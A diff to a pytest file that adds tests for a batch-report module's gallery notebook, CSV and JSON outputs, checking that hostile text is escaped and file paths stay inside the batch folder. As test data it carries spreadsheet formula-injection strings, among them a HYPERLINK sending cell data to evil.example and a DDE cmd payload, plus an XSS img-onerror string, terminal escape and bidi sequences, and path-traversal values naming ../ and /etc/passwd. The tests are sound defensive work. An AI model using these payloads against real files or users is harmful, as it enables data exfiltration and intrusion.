@@ -6,10 +6,12 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 import signal
 import subprocess
 import sys
 from pathlib import Path
+from urllib.parse import unquote
 
 import pytest
 
@@ -17,7 +19,8 @@ from spark_nb._files import write_atomically
 from spark_nb.batch import ManifestError
 from spark_nb.batch._manifest import check_manifest, rows_to_run
 from spark_nb.batch._outcome import RowOutcome, RowStatus
-from spark_nb.batch._report import OWN_NAMES, outcomes_html, write_gallery, write_results_csv, write_rows_json
+from spark_nb.batch._report import (OWN_NAMES, gallery, outcomes_html, write_gallery, write_gallery_notebook,
+                                    write_results_csv, write_rows_json)
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "\x1b[2J=1+1"]
@@ -64,6 +67,109 @@ def test_hostile_text_is_inert_and_escaped_in_the_gallery_and_the_table(tmp_path
     assert "line 2" in page
 
 
+def test_the_gallery_notebook_is_a_valid_notebook_showing_hostile_text_inert_and_escaped(
+        tmp_path: Path, media: dict[str, Path]) -> None:
+    """gallery.ipynb holds the cards as its saved output: a valid notebook; markup, escape sequences and bidi
+    overrides from a name, a task id, an error or advice are inert and escaped; every src and href in it is
+    relative and inside the folder (a video from elsewhere is brought into media/), no absolute path anywhere."""
+    import nbformat
+
+    odd = '<img src=x onerror=alert(1)>\x1b]0;title\x07\u202eevil'
+    outcomes = [RowOutcome(name=odd, model=odd, status=RowStatus.FAILED, task_id=odd, error=odd + "\nline 2",
+                           advice=odd),
+                RowOutcome("ok", "spark_avatar_imitator_v2v", RowStatus.COMPLETED, task_id="t1", video=media["driving"],
+                           inputs={"image": str(media["portrait"]), "driving_video": str(media["driving"])})]
+    out = tmp_path / "batch"
+    out.mkdir()
+    path = write_gallery_notebook(out, outcomes)
+    text = path.read_text()
+    notebook = nbformat.reads(text, as_version=4)
+    nbformat.validate(notebook)
+    (output,) = notebook.cells[1].outputs
+    page = "".join(output.data["text/html"])
+    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page and "line 2" in page
+    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text and "\\u001b" not in text
+    assert str(media["driving"].parent) not in text and str(tmp_path) not in text
+    refs = re.findall(r'(?:src|href)="([^"]*)"', page)
+    assert len(refs) == 3  # the video, the portrait's copy and the driving video's copy (no notebook link)
+    for ref in refs:
+        assert not ref.startswith(("/", "..")) and (out / unquote(ref)).resolve().is_relative_to(out.resolve())
+        assert (out / unquote(ref)).is_file()
+    assert temporary_files(tmp_path) == []
+
+
+def test_results_csv_and_rows_json_name_only_files_inside_the_folder(tmp_path: Path, media: dict[str, Path]) -> None:
+    """A row whose video the journal saw in another folder (an earlier run's): results.csv and rows.json name its
+    copy in the batch folder (media/), never ../ (it read ../first_run/row/....mp4: moved or zipped, it broke)."""
+    elsewhere = tmp_path / "first_run" / "row"
+    elsewhere.mkdir(parents=True)
+    video = elsewhere / "t1.mp4"
+    video.write_bytes(media["driving"].read_bytes())
+    out = tmp_path / "second_run"
+    out.mkdir()
+    outcomes = [RowOutcome("row", "spark_avatar_imitator_v2v", RowStatus.COMPLETED, task_id="t1", video=video,
+                           inputs={"image": str(media["portrait"]), "driving_video": str(media["driving"])})]
+    write_results_csv(out, outcomes)
+    write_rows_json(out, outcomes)
+    with (out / "results.csv").open(newline="") as f:
+        (csv_row,) = list(csv.DictReader(f))
+    (json_row,) = json.loads((out / "rows.json").read_text())["rows"]
+    for relative in (csv_row["video"], json_row["video"], *json_row["inputs"].values()):
+        assert not relative.startswith(("/", "..")) and (out / relative).is_file(), relative
+        assert (out / relative).resolve().is_relative_to(out.resolve())
+    assert (out / csv_row["video"]).read_bytes() == video.read_bytes()
+
+
+def test_gallery_from_someone_elses_rows_json_shows_and_copies_nothing_outside_its_folder(
+        tmp_path: Path, media: dict[str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
+    """batch.gallery() draws a folder's rows.json, which may come with a folder from anyone: a path that leaves
+    the folder (../, absolute) is neither shown nor brought into media/ (a private file would be copied into a
+    folder meant for sharing); an unknown status is shown as unfinished; the text is escaped."""
+    secret = tmp_path / "private.jpg"
+    secret.write_bytes(media["portrait"].read_bytes())
+    folder = tmp_path / "shared"
+    (folder / "row").mkdir(parents=True)
+    (folder / "row" / "v.mp4").write_bytes(media["driving"].read_bytes())
+    rows = [{"name": "row", "model": "spark_avatar_imitator_v2v", "status": "completed", "video": "row/v.mp4",
+             "notebook": "/etc/passwd", "inputs": {"image": "../private.jpg", "driving_video": str(secret)}},
+            {"name": "<b>x</b>", "model": "m", "status": "owned", "video": "../private.jpg", "inputs": "no"}]
+    (folder / "rows.json").write_text(json.dumps({"rows": rows}))
+    monkeypatch.chdir(folder)
+    page = gallery().data
+    assert 'src="row/v.mp4"' in page and "private" not in page and "passwd" not in page
+    assert "&lt;b&gt;x&lt;/b&gt;" in page and ">unfinished</span>" in page
+    assert not (folder / "media").exists()
+    (folder / "rows.json").write_text("[not json")
+    assert "spark-gallery" in gallery().data  # an unreadable rows.json: an empty gallery, not a crash
+
+
+def test_a_row_record_from_elsewhere_never_names_a_file_outside_its_folder(tmp_path: Path,
+                                                                          media: dict[str, Path]) -> None:
+    """A row folder's result.json answers for its row (the job notebook, a rerun) only with a video inside that
+    folder: one naming ../ or an absolute path is no answer (the task is waited for as usual), and what origin()
+    prints of a record is inert."""
+    from spark_nb.batch._record import completed_here, origin, result_of
+
+    outside = tmp_path / "private.mp4"
+    outside.write_bytes(media["driving"].read_bytes())
+    row = tmp_path / "batch" / "row"
+    row.mkdir(parents=True)
+    (row / "t1.mp4").write_bytes(media["driving"].read_bytes())
+    for video in ("../../private.mp4", str(outside), "missing.mp4", 7):
+        (row / "result.json").write_text(json.dumps({"task_id": "t1", "status": "completed", "video": video}))
+        assert completed_here(row, "t1") is None, video
+    record = {"task_id": "t1", "status": "completed", "video": "t1.mp4", "duration": 2.0, "cost": "0.10",
+              "reused": {"task_id": "t1\x1b[2J", "made_at": "2026-12-07 03:57:09", "made_by": "a batch row"},
+              "advice": ["the speech audio is 17.0 s\u202e"]}
+    (row / "result.json").write_text(json.dumps(record))
+    assert completed_here(row, "t2") is None and (found := completed_here(row, "t1")) is not None
+    result = result_of(row, found)
+    assert result.path == (row / "t1.mp4").resolve() and result.cost == "0.10" and result.duration == 2.0
+    said = origin(row)
+    assert said.startswith("reused task t1 from 2026-12-07 03:57:09 (made by a batch row)")
+    assert "\x1b" not in said and "\u202e" not in said and "advice: the speech audio is 17.0 s" in said
+
+
 @pytest.mark.parametrize("name", ["index.html", "RESULTS.CSV", "rows.json", "Media", "gallery.ipynb"])
 def test_a_row_named_like_the_batchs_own_files_is_refused(name: str, tmp_path: Path, media: dict[str, Path]) -> None:
     """A row may not take the name of the batch's own files and folders, in any case: the check says which names
@@ -97,7 +203,7 @@ import os, resource, signal, sys, time
 from pathlib import Path
 import spark_nb._files as files
 from spark_nb.batch._outcome import RowOutcome, RowStatus
-from spark_nb.batch._report import write_gallery, write_results_csv, write_rows_json
+from spark_nb.batch._report import write_gallery, write_gallery_notebook, write_results_csv, write_rows_json
 
 out, mode = Path(sys.argv[1]), sys.argv[2]
 signal.signal(signal.SIGINT, signal.default_int_handler)
@@ -112,7 +218,7 @@ else:  # stop between writing the temporary file and renaming it, where a signal
         time.sleep(60)
         real_replace(src, dst)
     files.os.replace = held_replace
-for write in (write_results_csv, write_rows_json, write_gallery):
+for write in (write_results_csv, write_rows_json, write_gallery_notebook, write_gallery):
     try:
         write(out, outcomes)
     except OSError as exc:
@@ -123,9 +229,9 @@ for write in (write_results_csv, write_rows_json, write_gallery):
 def _old_reports(out: Path) -> dict[str, bytes]:
     """Small, whole reports of one row, as an earlier run left them."""
     outcomes = [RowOutcome("earlier", "m", RowStatus.COMPLETED, task_id="t0")]
-    for write in (write_results_csv, write_rows_json, write_gallery):
+    for write in (write_results_csv, write_rows_json, write_gallery_notebook, write_gallery):
         write(out, outcomes)
-    return {name: (out / name).read_bytes() for name in ("results.csv", "rows.json", "index.html")}
+    return {name: (out / name).read_bytes() for name in ("results.csv", "rows.json", "gallery.ipynb", "index.html")}
 
 
 def test_a_full_disk_mid_write_leaves_the_old_reports_and_no_temporary_file(tmp_path: Path) -> None:
@@ -134,7 +240,7 @@ def test_a_full_disk_mid_write_leaves_the_old_reports_and_no_temporary_file(tmp_
     old = _old_reports(tmp_path)
     proc = subprocess.run([sys.executable, "-c", WRITER, str(tmp_path), "fsize"], capture_output=True, text=True,
                           timeout=120)
-    assert proc.stdout.count("OSError 27") == 3, proc.stdout + proc.stderr  # EFBIG, once per report
+    assert proc.stdout.count("OSError 27") == 4, proc.stdout + proc.stderr  # EFBIG, once per report
     assert {name: (tmp_path / name).read_bytes() for name in old} == old
     assert temporary_files(tmp_path) == []
 
